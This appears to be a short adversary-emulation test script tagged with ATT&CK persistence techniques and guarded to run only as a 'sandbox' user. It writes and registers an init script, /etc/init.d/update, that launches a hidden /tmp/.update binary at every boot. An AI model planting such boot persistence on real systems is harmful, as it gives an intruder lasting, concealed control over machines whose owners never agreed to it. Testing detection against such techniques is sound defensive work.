#!/bin/sh
# technique: T1543.002 T1037
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

printf '#!/bin/sh\n/tmp/.update &\n' > /etc/init.d/update; chmod +x /etc/init.d/update; update-rc.d update defaults
